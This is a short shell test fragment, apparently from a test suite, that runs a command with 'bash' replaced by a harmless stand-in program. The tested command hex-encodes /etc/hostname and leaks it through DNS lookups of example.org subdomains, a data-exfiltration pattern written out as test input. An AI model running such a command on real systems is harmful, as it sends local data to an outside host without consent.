# `bash -c 'for x in $(xxd -p /etc/hostname | head -2); do host $x.example.org; done'`, with a harmless program by the name of bash.
prepare() { stand_in bash; }
act() {
    bash -c 'for x in $(xxd -p /etc/hostname | head -2); do host $x.example.org; done'
}
